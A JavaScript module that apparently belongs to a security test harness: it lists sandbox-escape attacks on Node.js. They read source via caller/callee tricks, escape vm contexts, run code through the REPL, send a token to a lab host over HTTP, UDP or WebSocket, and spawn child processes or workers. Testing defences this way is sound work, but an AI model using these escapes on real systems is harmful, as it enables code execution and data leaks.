/** Access through parts of Node.js with other purposes: its test runner, the REPL, stores of addresses. The effect depends on the category. */
'use strict';
const Module = require('node:module');
const net = require('node:net');
const path = require('node:path');
const { PassThrough } = require('node:stream');
const sloppy = require('./tricks/sloppy.cjs');

exports.category = 'dynamicCode';

const sent = (start) => new Promise((done) => start(done));
const wait = (ms) => new Promise((done) => setTimeout(done, ms));

/** Loads the source as a module of the attack, whose exports call a function when they are set. */
function setting(lab, made) {
  let seen;
  const module = new Module(lab.source);
  module.exports = new Proxy({}, { set: made((caller) => (seen ??= String(caller))) });
  module.load(lab.source);
  return seen;
}

exports.attacks = {
  'the source, by the caller of a setter': { category: 'sourceRead', run: (lab) => setting(lab, sloppy.caller) },
  'the source, by the callee of a setter': { category: 'sourceRead', run: (lab) => setting(lab, sloppy.callee) },
  'the source, as the snapshot of a test': {
    category: 'sourceRead',
    run: (lab) => new Promise((done) => {
      void require('node:test').test('compares', ({ assert }) => {
        try {
          assert.fileSnapshot('nothing', lab.source, { serializers: [(value) => value] });
        } catch (error) {
          done([error.message, error.actual, error.expected].join());
        }
      });
      setTimeout(done, 3000);
    }),
  },
  'a script, constructed for another class': {
    run: (lab) => {
      const { Script } = require('node:vm');
      Script.prototype.runInThisContext.call(Reflect.construct(Script, [lab.code], Object));
      return globalThis.proof;
    },
  },
  'a function of the context that another is parsed in': {
    run: (lab) => {
      const vm = require('node:vm');
      const functions = vm.compileFunction('return this.constructor.constructor', [], { parsingContext: vm.createContext({}) });
      functions.call(() => 0)(lab.code)();
      return globalThis.proof;
    },
  },
  'what the REPL evaluates': {
    run: (lab) => new Promise((done) => {
      const repl = require('node:repl').start({ input: new PassThrough(), output: new PassThrough(), useGlobal: true });
      repl.eval(`${lab.code}\n`, globalThis, 'REPL1', () => done(globalThis.proof));
    }),
  },
  'a preview of the REPL': {
    category: 'inspector',
    run: async (lab) => {
      const [input, output] = [new PassThrough(), new PassThrough()];
      let shown = '';
      output.on('data', (data) => (shown += data));
      require('node:repl').start({ input, output, terminal: true, preview: true, useColors: false });
      input.write(`'${lab.proof.slice(0, 8)}'+'${lab.proof.slice(8)}'`);
      await wait(800);
      return shown;
    },
  },
  'an agent that connects elsewhere': {
    category: 'network',
    run: (lab) => sent((done) => {
      const http = require('node:http');
      const agent = new http.Agent({ keepAlive: true });
      agent.createConnection = (options, connected) => net.connect(lab.ports.tcp, lab.host, connected);
      http.get({ host: lab.allowedName, port: lab.ports.tcp, agent, path: `/${lab.token}` }, (answer) => answer.resume().on('end', done)).on('error', done);
    }),
  },
  'a datagram that no list forbids': {
    category: 'network',
    run: (lab) => sent((done) => {
      const socket = require('node:dgram').createSocket({ type: 'udp4', sendBlockList: new net.BlockList() });
      socket.send(lab.token, lab.ports.udp, lab.host, done);
    }),
  },
  'a web socket with a user': {
    category: 'network',
    run: (lab) => sent((done) => {
      const socket = new WebSocket(`ws://user@${lab.host}:${lab.ports.tcp}/${lab.token}`);
      socket.onerror = socket.onclose = () => done();
    }),
  },
  'a primary that is set up': {
    category: 'childProcess',
    run: (lab) => sent((done) => {
      const cluster = require('node:cluster');
      cluster.setupPrimary({ exec: lab.childScript, args: [lab.marker], execArgv: [], silent: true });
      cluster.fork().on('exit', done).on('error', done);
    }),
  },
  'tests in processes of their own': {
    category: 'childProcess',
    run: (lab) => sent((done) => {
      require('node:test').run({ files: [lab.childScript], isolation: 'process', argv: [lab.marker] }).on('end', done).on('error', done).resume();
    }),
  },
  'tests that are watched': {
    category: 'childProcess',
    run: async (lab) => {
      require('node:test').run({ files: [lab.childScript], watch: true, argv: [lab.marker] }).on('error', () => undefined).resume();
      await wait(3000);
    },
  },
  'a socket for all, in the folder': {
    category: 'fileWrite',
    run: async (lab) => {
      net.createServer().listen({ path: path.join(lab.out, 'socket'), readableAll: true, writableAll: true }).on('error', () => undefined);
      await wait(100);
    },
  },
  'a thread that broadcasts': {
    category: 'worker',
    run: (lab) => new Promise((done, failed) => {
      const { BroadcastChannel, Worker } = require('node:worker_threads');
      const channel = new BroadcastChannel('lab');
      channel.onmessage = ({ data }) => {
        channel.close();
        done(data);
      };
      const code = `const channel = new BroadcastChannel('lab'); channel.postMessage('${lab.proof}'); setTimeout(() => channel.close(), 500)`;
      new Worker(new URL(`data:text/javascript,${encodeURIComponent(code)}`)).on('error', failed);
    }),
  },
};
